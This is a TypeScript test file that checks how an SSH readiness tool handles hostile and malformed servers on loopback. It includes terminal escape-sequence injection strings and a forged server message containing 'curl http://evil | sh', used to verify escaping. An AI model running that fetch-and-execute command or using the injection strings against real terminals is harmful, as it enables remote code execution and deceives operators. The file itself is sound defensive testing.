// waitForSsh against hostile and broken servers on loopback: each misbehaviour is one classified, retried
// attempt (or a clear failure), never a crash, an unbounded buffer or an attempt that outlives its cause.
import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import { writeFileSync } from "node:fs";
import net from "node:net";
import { join } from "node:path";
import { describe, it } from "node:test";
import {
  HostKeyMismatchError,
  SshNotReadyError,
  waitForSsh,
  type AttemptEvent,
  type WaitForSshOptions,
} from "../../components/readiness";
import { run } from "../../components/cli/ssh-ready";
import { ProgressPrinter } from "../../components/readiness/progress";
import { sshReadinessProvider } from "../../components/ssh-readiness/provider";
import { OpenSshServer } from "../../tools/simulator/openssh";
import { opensshSkipReason } from "../support/openssh";
import { acceptingServer, ssh2Server, type Listening } from "../support/bad-servers";
import { ed25519 } from "../support/keys";
import { scratchDir } from "../support/scratch";

const user = ed25519();

/** A raw TCP server that answers every connection with `script(socket)`. */
async function rawServer(script: (socket: net.Socket) => void): Promise<Listening> {
  const sockets = new Set<net.Socket>();
  let count = 0;
  const server = net.createServer((socket) => {
    count += 1;
    sockets.add(socket);
    socket.on("close", () => sockets.delete(socket));
    socket.on("error", () => undefined);
    script(socket);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    port: (server.address() as net.AddressInfo).port,
    connections: () => count,
    open: () => sockets.size,
    close: async () => {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/**
 * An SSH DISCONNECT (RFC 4253 §11.1) with the server's own description, as a cleartext binary packet: what a
 * server may send right after its identification, before any key exchange.
 */
function disconnectPacket(description: string): Buffer {
  const text = Buffer.from(description, "utf8");
  const payload = Buffer.alloc(1 + 4 + 4 + text.length + 4);
  payload[0] = 1; // SSH_MSG_DISCONNECT
  payload.writeUInt32BE(2, 1); // SSH_DISCONNECT_PROTOCOL_ERROR
  payload.writeUInt32BE(text.length, 5);
  text.copy(payload, 9);
  // Language tag: empty. Padding: at least 4 bytes, the packet a multiple of 8.
  let padding = 8 - ((4 + 1 + payload.length) % 8);
  if (padding < 4) padding += 8;
  const packet = Buffer.alloc(4 + 1 + payload.length + padding);
  packet.writeUInt32BE(1 + payload.length + padding, 0);
  packet[4] = padding;
  payload.copy(packet, 5);
  return packet;
}

/** Runs a wait that is expected to give up; returns its error and events. */
async function failingWait(
  options: WaitForSshOptions,
): Promise<{ error: SshNotReadyError; events: AttemptEvent[] }> {
  const events: AttemptEvent[] = [];
  const error = await waitForSsh({ ...options, onAttempt: (e) => events.push(e) }).catch(
    (e: unknown) => e,
  );
  assert.ok(
    error instanceof SshNotReadyError,
    `a classified SshNotReadyError, got ${String(error)}`,
  );
  return { error, events };
}

/** An ssh2 server that accepts the key and closes the connection at once: sshd restarting after login. */
function closesAfterAuth() {
  return ssh2Server({
    onClient: (client) => {
      client.on("authentication", (ctx) => ctx.accept());
      client.on("ready", () => client.end());
    },
  });
}

describe("a server that closes the connection right after accepting the key", () => {
  it("is a classified, retried reset, not a crash", async () => {
    const server = await closesAfterAuth();
    try {
      const { error, events } = await failingWait({
        host: "127.0.0.1",
        port: server.port,
        username: "u",
        privateKey: user.private,
        timeout: "1500ms",
      });
      assert.ok(events.length >= 2, "retried");
      assert.ok(
        events.every((e) => e.outcome === "reset"),
        JSON.stringify(events.map((e) => e.detail)),
      );
      assert.equal(error.code, "SSH_NOT_READY");
      assert.equal(error.last.class, "reset");
    } finally {
      await server.close();
    }
  });

  it("makes the CLI exit 1 with one clear line and valid JSON, not a stack trace", async () => {
    const server = await closesAfterAuth();
    const key = join(scratchDir("close-"), "key");
    writeFileSync(key, user.private, { mode: 0o600 });
    try {
      let stdout = "";
      let stderr = "";
      const code = await run(
        ["127.0.0.1", "-p", String(server.port), "-l", "u", "-i", key, "--timeout", "1s", "--json"],
        { stdout: (t) => (stdout += t), stderr: (t) => (stderr += t), env: {} },
      );
      assert.equal(code, 1, stderr);
      const last = stderr.trim().split("\n").at(-1)!;
      assert.match(last, /^ssh-ready: u@127\.0\.0\.1:\d+ logs in, but could not run a command: /);
      const { error } = JSON.parse(stdout) as { error: { code: string; last: { class: string } } };
      assert.deepEqual([error.code, error.last.class], ["SSH_NOT_READY", "reset"]);
    } finally {
      await server.close();
    }
  });

  it("is a classified reset of the jump host when the jump host does it", async () => {
    const jump = await closesAfterAuth();
    try {
      const { error, events } = await failingWait({
        host: "10.0.0.5",
        port: 22,
        username: "u",
        privateKey: user.private,
        timeout: "3s",
        jumpHost: { host: "127.0.0.1", port: jump.port, username: "j" },
      });
      // An attempt the deadline cut short says nothing about the server (its outcome is the cut phase's).
      const counted = events.filter((e) => !e.cutByDeadline);
      assert.ok(counted.length >= 2, `retried: ${JSON.stringify(events)}`);
      assert.ok(
        counted.every((e) => e.hop === "jump" && e.outcome === "reset"),
        JSON.stringify(events),
      );
      assert.equal(error.last.hop, "jump");
    } finally {
      await jump.close();
    }
  });
});

/**
 * A login wait whose attempt limit is far beyond its deadline: an attempt that waited for its limit would be
 * the only one, cut by the deadline.
 */
const loginBeyondDeadline = (port: number): WaitForSshOptions => ({
  host: "127.0.0.1",
  port,
  username: "u",
  privateKey: user.private,
  level: "auth",
  timeout: "2500ms",
  attemptTimeout: "1h",
});

describe("servers that do not speak SSH 2", () => {
  const banner = (options: Partial<WaitForSshOptions>, port: number): WaitForSshOptions => ({
    host: "127.0.0.1",
    port,
    level: "banner",
    timeout: "1s",
    ...options,
  });

  for (const [what, text, detail] of [
    [
      "an SSH-1 server",
      "SSH-1.5-OldServer_1.2\r\n",
      /speaks SSH 1 \("SSH-1\.5-OldServer_1\.2"\), not SSH 2/,
    ],
    ["a bare SSH-", "SSH-\r\n", /identification "SSH-" is not SSH 2's/],
    ["an identification line over 255 bytes", `SSH-2.0-${"x".repeat(300)}\r\n`, /over 255 bytes/],
    ["1025 lines before any banner", "hello\r\n".repeat(1025), /over 1024 lines and no SSH banner/],
  ] as const) {
    it(`is not ready at level banner: ${what}`, async () => {
      const server = await rawServer((socket) => socket.end(text));
      try {
        const { events } = await failingWait(banner({}, server.port));
        assert.equal(events[0].outcome, "not-ssh");
        assert.match(events[0].detail, detail);
      } finally {
        await server.close();
      }
    });
  }

  it("accepts SSH-1.99, a server that speaks both", async () => {
    const server = await rawServer((socket) => socket.write("SSH-1.99-Compat_1\r\n"));
    try {
      const result = await waitForSsh(banner({}, server.port));
      assert.equal(result.serverBanner, "SSH-1.99-Compat_1");
    } finally {
      await server.close();
    }
  });

  for (const [what, send] of [
    ["an SSH-1.5 server", (s: net.Socket) => s.write("SSH-1.5-OldServer\r\n")],
    [
      "a banner followed by garbage",
      (s: net.Socket) => s.write(`SSH-2.0-Odd\r\n${"\x00\xff garbage ".repeat(50)}`),
    ],
  ] as const) {
    it(`ends each login attempt on the error from ${what}, not at the attempt's time limit`, async () => {
      const server = await rawServer(send);
      try {
        const { events } = await failingWait(loginBeyondDeadline(server.port));
        assert.ok(
          events.length >= 2,
          `several attempts: ${JSON.stringify(events.map((e) => e.detail))}`,
        );
        assert.ok(events.every((e) => !e.cutByDeadline && e.outcome !== "timeout"));
      } finally {
        await server.close();
      }
    });
  }
});

describe("server identification at the login levels", () => {
  for (const [what, text, outcome, detail] of [
    [
      "a bare SSH- line",
      "SSH-\r\n",
      "not-ssh",
      /^the server's identification "SSH-" is not SSH 2's/,
    ],
    [
      "an SSH-1.5 server",
      "SSH-1.5-OldServer\r\n",
      "not-ssh",
      /speaks SSH 1 \("SSH-1\.5-OldServer"\)/,
    ],
    [
      // ssh2's parser fails on this with "Cannot read properties of undefined (reading 'parse')".
      "a key exchange packet before KEXINIT",
      `SSH-2.0-Odd\r\n\x00\x00\x00\x0c\x0a\x1e${"\x00".repeat(10)}`,
      "handshake",
      /^the server sent an SSH message out of order or malformed \(the client could not read it\)$/,
    ],
  ] as const) {
    it(`names ${what} held open at level auth as it is, at once, as at level banner`, async () => {
      const server = await rawServer((socket) => socket.write(text, "latin1"));
      try {
        const { events } = await failingWait(loginBeyondDeadline(server.port));
        assert.ok(events.length >= 2, JSON.stringify(events.map((e) => e.detail)));
        for (const event of events.filter((e) => !e.cutByDeadline)) {
          assert.equal(event.outcome, outcome);
          assert.match(event.detail, detail);
        }
      } finally {
        await server.close();
      }
    });
  }
});

describe("a server that streams bytes without a line break", () => {
  it("is not-ssh after 8 KiB, and the waiting process stays small", () => {
    // In a child process, so its peak RSS (VmHWM) measures the wait alone.
    const script = `
      const net = require("node:net");
      const { waitForSsh } = require(${JSON.stringify(require.resolve("../../components/readiness"))});
      const chunk = Buffer.alloc(1 << 20, 65);
      const server = net.createServer((socket) => {
        socket.on("error", () => {});
        const pump = () => { while (!socket.destroyed && socket.write(chunk)); };
        socket.on("drain", pump);
        pump();
      });
      server.listen(0, "127.0.0.1", async () => {
        const events = [];
        await waitForSsh({ host: "127.0.0.1", port: server.address().port, level: "banner", timeout: "4s",
          onAttempt: (e) => events.push(e) }).catch(() => {});
        server.close();
        const hwm = /VmHWM:\\s+(\\d+) kB/.exec(require("node:fs").readFileSync("/proc/self/status", "utf8"))[1];
        console.log(JSON.stringify({ peakKb: Number(hwm), events: events.map((e) => [e.outcome, e.detail]) }));
        process.exit(0);
      });`;
    const run = spawnSync(process.execPath, ["-e", script], { encoding: "utf8" });
    assert.equal(run.status, 0, run.stderr);
    const { peakKb, events } = JSON.parse(run.stdout) as {
      peakKb: number;
      events: [string, string][];
    };
    assert.deepEqual(events[0], [
      "not-ssh",
      "the server sent a line over 8192 bytes and no SSH banner",
    ]);
    assert.ok(peakKb < 150 * 1024, `peak RSS ${Math.round(peakKb / 1024)} MB`);
  });
});

describe("a jump host pinned like a target", { skip: opensshSkipReason() }, () => {
  /** A jump sshd with an Ed25519 key (its first choice) and an ECDSA key. */
  async function twoKeyJump(): Promise<{ sshd: OpenSshServer; ecdsa: string; ed25519: string }> {
    const dir = scratchDir("jump-keys-");
    const files = ["ed25519", "ecdsa"].map((type) => {
      const file = join(dir, `host_${type}`);
      execFileSync("ssh-keygen", ["-q", "-t", type, "-N", "", "-C", "", "-f", file]);
      return file;
    });
    const sshd = new OpenSshServer({ hostKeyFiles: files });
    sshd.authorize(user.public);
    await sshd.start();
    const fingerprint = (file: string) =>
      execFileSync("ssh-keygen", ["-l", "-f", `${file}.pub`], { encoding: "utf8" }).split(" ")[1];
    return { sshd, ed25519: fingerprint(files[0]), ecdsa: fingerprint(files[1]) };
  }

  it("tries the jump host's other key types for a fingerprint pin, as for a target", async () => {
    const { sshd, ecdsa } = await twoKeyJump();
    try {
      const result = await waitForSsh({
        host: "127.0.0.1",
        port: sshd.port,
        level: "tcp",
        jumpHost: {
          host: "127.0.0.1",
          port: sshd.port,
          username: sshd.user,
          privateKey: user.private,
          hostKeyPin: ecdsa,
        },
      });
      assert.equal(result.level, "tcp");
    } finally {
      await sshd.dispose();
    }
  });

  it("names the jump host and both keys in a mismatch, in the message and in JSON", async () => {
    const { sshd, ed25519: ed, ecdsa } = await twoKeyJump();
    const stranger = `SHA256:${"A".repeat(43)}`;
    try {
      const error = await waitForSsh({
        host: "10.0.0.5",
        port: 22,
        level: "tcp",
        timeout: "5s",
        jumpHost: {
          host: "127.0.0.1",
          port: sshd.port,
          username: sshd.user,
          privateKey: user.private,
          hostKeyPin: stranger,
        },
      }).catch((e: unknown) => e);
      assert.ok(error instanceof HostKeyMismatchError, String(error));
      assert.match(
        error.message,
        new RegExp(`^host key mismatch on jump host ${sshd.user}@127\\.0\\.0\\.1:${sshd.port}: `),
      );
      const presented = error.presented.map((k) => k.fingerprint);
      assert.deepEqual(new Set(presented), new Set([ed, ecdsa]));
      assert.equal(error.expected, stranger);
      const json = error.toJSON() as { presented: { fingerprint: string }[]; expected: string };
      assert.equal(json.expected, stranger);
      assert.equal(json.presented.length, 2);
    } finally {
      await sshd.dispose();
    }
  });
});

describe("text from the server is data, not terminal commands", () => {
  const evil = "SSH-2.0-evil\x1b]0;owned\x07\x1b[2J\u009b31m\u202e";
  /** A control character a terminal would act on, raw. */
  const hasRaw = (text: string) =>
    ["\x1b", "\x07", "\u009b", "\u202e"].some((c) => text.includes(c));

  /** ssh-ready in-process: exit code, and everything it printed. */
  async function sshReady(argv: string[]): Promise<{ code: number; out: string; stdout: string }> {
    let out = "";
    let stdout = "";
    const code = await run(argv, {
      stdout: (t) => ((out += t), (stdout += t)),
      stderr: (t) => (out += t),
      env: {},
    });
    return { code, out, stdout };
  }

  it("is escaped in a banner the CLI prints, and only JSON-escaped with --json", async () => {
    // ssh2 takes any text in the identification's comment; so do some servers.
    const server = await acceptingServer({
      config: { ident: "ok comment\x1b]0;owned\x07\x1b[2J" },
    });
    const key = join(scratchDir("evil-"), "key");
    writeFileSync(key, user.private, { mode: 0o600 });
    const args = ["127.0.0.1", "-p", String(server.port), "-l", "u", "-i", key, "--timeout", "5s"];
    try {
      const text = await sshReady(args);
      assert.equal(text.code, 0, text.out);
      assert.ok(!hasRaw(text.out), "no raw control character");
      assert.match(text.out, /banner: SSH-2\.0-ok comment\\x1b\]0;owned\\x07\\x1b\[2J/);
      const json = await sshReady([...args, "--json"]);
      assert.equal(json.code, 0, json.out);
      assert.ok(!hasRaw(json.stdout));
      const banner = (JSON.parse(json.stdout) as { serverBanner: string }).serverBanner;
      assert.ok(
        banner.includes("\x1b]0;owned\x07"),
        "the JSON holds the banner exactly, as escapes",
      );
    } finally {
      await server.close();
    }
  });

  it("is escaped in the message of a wait that gives up on it", async () => {
    const server = await rawServer((socket) => socket.write(`${evil}\r\n`));
    try {
      for (const json of [false, true]) {
        const text = await sshReady([
          "127.0.0.1",
          "-p",
          String(server.port),
          "--level",
          "banner",
          "--timeout",
          "500ms",
          ...(json ? ["--json"] : []),
        ]);
        assert.equal(text.code, 1, text.out);
        assert.ok(!hasRaw(text.out));
        assert.match(text.out, /SSH-2\.0-evil\\x1b\]0;owned\\x07/);
      }
    } finally {
      await server.close();
    }
  });

  it("never makes a line of its own: a DISCONNECT reason with line breaks stays on its line", async () => {
    const forged = "bye\nready: root@127.0.0.1:22 at level auth\r\nFAKE: run curl http://evil | sh";
    const server = await rawServer((socket) => {
      socket.write("SSH-2.0-OpenSSH_9.2\r\n");
      socket.write(disconnectPacket(forged));
      socket.end();
    });
    const key = join(scratchDir("evil-"), "key");
    writeFileSync(key, user.private, { mode: 0o600 });
    const args = ["127.0.0.1", "-p", String(server.port), "-l", "u", "-i", key, "--timeout", "1s"];
    const ours = /^(ssh-ready: |\+\d+\.\ds |Last output| {2}\| )/;
    try {
      for (const json of [false, true]) {
        const text = await sshReady([...args, ...(json ? ["--json"] : [])]);
        assert.equal(text.code, 1, text.out);
        assert.match(text.out, /bye\\x0aready: root@127\.0\.0\.1:22 at level auth\\x0d\\x0aFAKE: /);
        const stderr = text.out.slice(0, text.out.length - text.stdout.length);
        for (const line of (json ? stderr : text.out).trim().split("\n"))
          assert.match(line, ours, "every line is one of ours");
        if (json) {
          const { error } = JSON.parse(text.stdout) as { error: { message: string } };
          assert.ok(!error.message.includes("\nready:") && !error.message.includes("\nFAKE:"));
        }
      }
      const logged: string[] = [];
      const original = console.log;
      console.log = (...parts: unknown[]) => void logged.push(parts.join(" "));
      let failure: unknown;
      try {
        failure = await sshReadinessProvider.create!({
          host: "127.0.0.1",
          port: server.port,
          username: "u",
          privateKey: user.private,
          label: "r",
          timeout: "1s",
        } as never).catch((e: unknown) => e);
      } finally {
        console.log = original;
      }
      assert.ok(failure instanceof Error);
      for (const line of [...logged, ...failure.message.split("\n")])
        assert.doesNotMatch(
          line,
          /^(ready|FAKE):/,
          "no forged line in the provider's log or error",
        );
    } finally {
      await server.close();
    }
  });

  it("is escaped in the progress lines the Pulumi provider prints", () => {
    const lines: string[] = [];
    const printer = new ProgressPrinter((line) => lines.push(line));
    printer.onAttempt({
      attempt: 1,
      hop: "target",
      outcome: "ready",
      reached: "banner",
      startedMs: 0,
      elapsedMs: 5,
      timestamp: 5,
      detail: "sshd sent its banner",
      serverBanner: evil,
      hostKeyFingerprint: `SHA256:${"A".repeat(43)}`,
    });
    assert.ok(lines.length > 0);
    for (const line of lines) {
      assert.ok(!["\x1b", "\x07", "\u009b", "\u202e"].some((c) => line.includes(c)), line);
    }
  });
});

describe("the readiness command does not outlive the wait", { skip: opensshSkipReason() }, () => {
  // OpenSSH delivers no signal to a root session, so ending the command must not rest on one; a plain user's
  // login shell here is dash, root's is bash: both shells run the binding.
  const users = process.getuid?.() === 0 ? [undefined, "root"] : [undefined];
  for (const login of users) {
    for (const how of ["its time limit", "an abort (Ctrl-C)"] as const) {
      it(`ends with the session when ${how} ends the wait, logged in as ${login ?? "a plain user"}`, async () => {
        const sshd = new OpenSshServer({ user: login });
        sshd.authorize(user.public);
        await sshd.start();
        const marker = 3000 + Math.floor(Math.random() * 900);
        // A child of the shell, not the shell itself: the whole group must end, not only the process sshd started.
        const pattern = `^sleep ${marker}$`;
        const running = () => spawnSync("pgrep", ["-u", sshd.user, "-f", pattern]).status === 0;
        const controller = new AbortController();
        try {
          const waiting = waitForSsh({
            host: "127.0.0.1",
            port: sshd.port,
            username: sshd.user,
            privateKey: user.private,
            level: "command",
            command: `sleep ${marker}; echo done`,
            commandTimeout: how === "its time limit" ? "2s" : "1m",
            timeout: how === "its time limit" ? "3s" : "1m",
            signal: controller.signal,
            onCommandStart: () => {
              if (how !== "its time limit") setTimeout(() => controller.abort(), 1500);
            },
          }).catch((e: unknown) => e);
          for (let i = 0; i < 300 && !running(); i++) await new Promise((r) => setTimeout(r, 10));
          assert.ok(running(), `sleep ${marker} started on the server`);
          const error = await waiting;
          assert.ok(error instanceof Error);
          for (let i = 0; i < 200 && running(); i++) await new Promise((r) => setTimeout(r, 10));
          assert.equal(running(), false, `sleep ${marker} still runs on the server`);
        } finally {
          spawnSync("pkill", ["-u", sshd.user, "-f", pattern]);
          await sshd.dispose();
        }
      });
    }
  }

  it("keeps the command's exit status and output when it ends on its own", async () => {
    const sshd = new OpenSshServer();
    sshd.authorize(user.public);
    await sshd.start();
    try {
      const error = await waitForSsh({
        host: "127.0.0.1",
        port: sshd.port,
        username: sshd.user,
        privateKey: user.private,
        level: "command",
        command: 'read line; echo "read: $?"; exit 7',
        timeout: "2s",
      }).catch((e: unknown) => e);
      assert.ok(error instanceof SshNotReadyError);
      // sshd's warning about the test user's home may come before or after the command's own line.
      assert.match(error.last.detail, /^the command exited 7: /);
      assert.match(error.commandOutput ?? "", /^read: 1$/m, "stdin is empty, not held open");
    } finally {
      await sshd.dispose();
    }
  });
});

describe("odd inputs", () => {
  it("checks the hooks like options: an InvalidOptionError naming each, before any traffic", async () => {
    const base = { host: "127.0.0.1", port: 1, level: "tcp" as const };
    const cases: [Partial<WaitForSshOptions>, string][] = [
      [
        { signal: {} as AbortSignal },
        "[signal] must be an AbortSignal (an AbortController's signal)",
      ],
      [{ onAttempt: "log" as never }, "[onAttempt] must be a function"],
      [{ onCommandStart: 1 as never }, "[onCommandStart] must be a function"],
    ];
    for (const [options, message] of cases) {
      await assert.rejects(waitForSsh({ ...base, ...options }), {
        name: "InvalidOptionError",
        message,
      });
    }
  });

  it("never echoes a private key pasted as the host, in an error or a provider's log", async () => {
    const key = ed25519().private;
    const body = key.split("\n")[1];
    await assert.rejects(waitForSsh({ host: key, level: "tcp" }), {
      name: "InvalidOptionError",
      message: '[host] is not a valid host name or IP address: "(a private key)"',
    });
    await assert.rejects(waitForSsh({ host: `x${"y".repeat(300)} z`, level: "tcp" }), {
      message: `[host] is not a valid host name or IP address: "x${"y".repeat(39)}…"`,
    });
    const logged: string[] = [];
    const original = console.log;
    console.log = (...args: unknown[]) => void logged.push(args.join(" "));
    try {
      await assert.rejects(
        sshReadinessProvider.create!({ host: key, label: "r", level: "tcp" } as never),
      );
    } finally {
      console.log = original;
    }
    assert.ok(!logged.join("\n").includes(body), "no key in the provider's log");
  });
});
